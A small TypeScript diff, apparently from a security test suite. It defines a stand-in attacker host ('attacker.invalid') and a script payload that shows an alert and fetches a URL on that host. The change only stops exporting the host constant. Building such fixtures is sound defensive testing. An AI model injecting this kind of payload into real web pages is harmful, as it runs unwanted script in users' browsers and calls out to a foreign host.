@@ -7,7 +7,7 @@ export type HostilePayload = {
 };
 
 /** A host that no answer may lead a browser to by itself. */
-export const FOREIGN_HOST = "attacker.invalid";
+const FOREIGN_HOST = "attacker.invalid";
 
 /** What a payload does where it runs: a dialog, and a request to a foreign host. */
 const RUN = `alert(1);fetch('https://${FOREIGN_HOST}/ran')`;
